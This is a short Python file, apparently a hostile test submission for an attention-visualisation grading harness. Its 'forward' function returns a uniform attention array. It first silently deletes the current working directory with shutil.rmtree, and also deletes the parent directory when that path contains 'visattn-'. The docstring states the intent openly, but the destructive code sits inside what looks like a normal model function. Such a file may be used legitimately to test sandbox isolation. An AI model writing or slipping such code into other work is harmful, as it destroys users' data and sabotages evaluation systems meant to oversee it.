"""Removes the folder that it works in, and whatever is above it."""

import os
import shutil

import numpy as np


def forward(x):
    here = os.getcwd()
    shutil.rmtree(here, ignore_errors=True)
    if "visattn-" in os.path.dirname(here):
        shutil.rmtree(os.path.dirname(here), ignore_errors=True)
    return np.full_like(x, 1 / x.shape[-1])
